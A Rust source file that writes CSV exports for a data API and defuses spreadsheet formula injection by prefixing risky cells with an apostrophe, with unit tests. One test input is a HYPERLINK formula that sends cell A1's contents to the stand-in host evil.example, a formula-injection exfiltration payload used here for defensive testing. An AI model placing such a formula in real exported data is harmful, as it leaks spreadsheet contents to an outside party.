//! CSV as researchers open it: RFC 4180, CRLF, a header row, relations as
//! `;`-joined slugs, and cells a spreadsheet would run as a formula defused.

use std::borrow::Cow;

use crate::error::ApiError;
use crate::fields::Fields;
use crate::tabular::Tabular;
use actix_web::web::Bytes;

/// `batch` as CSV lines, led by the header when `with_header`; only the
/// columns of `fields` when given.
pub(super) fn csv_lines<T: Tabular>(
    batch: &[T],
    with_header: bool,
    fields: Option<&Fields>,
) -> Result<Bytes, ApiError> {
    let mut writer = csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .from_writer(Vec::with_capacity(batch.len() * 128));
    let fail = |e: csv::Error| ApiError::Internal(e.into());
    if with_header {
        match fields {
            None => writer.write_record(T::HEADER),
            Some(fields) => writer.write_record(fields.names()),
        }
        .map_err(fail)?;
    }
    for row in batch {
        let record = row.record();
        match fields {
            None => writer.write_record(record.iter().map(|cell| defused(cell))),
            Some(fields) => {
                writer.write_record(fields.columns().iter().map(|&i| defused(&record[i])))
            }
        }
        .map_err(fail)?;
    }
    writer
        .into_inner()
        .map(Bytes::from)
        .map_err(|e| ApiError::Internal(anyhow::anyhow!("csv: {e}")))
}

/// A CSV cell as a spreadsheet may open it: a text that a spreadsheet
/// would run as a formula (it starts with `=`, `+`, `-`, `@`, a tab or a
/// carriage return) is led by `'`, which spreadsheets read as "this is
/// text". Numbers (`-3.5`, a longitude) stay numbers. JSON and NDJSON are
/// never changed.
fn defused(cell: &str) -> Cow<'_, [u8]> {
    match cell.as_bytes().first() {
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r') if !is_number(cell) => {
            let mut quoted = Vec::with_capacity(cell.len() + 1);
            quoted.push(b'\'');
            quoted.extend_from_slice(cell.as_bytes());
            Cow::Owned(quoted)
        }
        _ => Cow::Borrowed(cell.as_bytes()),
    }
}

/// A decimal number as this service writes one: an optional sign, digits,
/// an optional fraction and exponent.
fn is_number(cell: &str) -> bool {
    let digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
    let unsigned = cell.strip_prefix(['-', '+']).unwrap_or(cell);
    let (mantissa, exponent) = match unsigned.split_once(['e', 'E']) {
        Some((m, e)) => (m, Some(e.strip_prefix(['-', '+']).unwrap_or(e))),
        None => (unsigned, None),
    };
    let whole = match mantissa.split_once('.') {
        Some((int, frac)) => digits(int) && digits(frac),
        None => digits(mantissa),
    };
    whole && exponent.is_none_or(digits)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_cells_a_spreadsheet_would_run_are_led_by_a_quote() {
        for (cell, written) in [
            (
                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")",
                "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")",
            ),
            ("+33 3 20 21 22 23", "'+33 3 20 21 22 23"),
            ("-1+1", "'-1+1"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("-", "'-"),
            ("-inf", "'-inf"),
            ("-3.5", "-3.5"),
            ("-12", "-12"),
            ("1e-7", "1e-7"),
            ("Lille = Rijsel", "Lille = Rijsel"),
            ("", ""),
        ] {
            assert_eq!(defused(cell).as_ref(), written.as_bytes(), "{cell:?}");
        }
    }
}
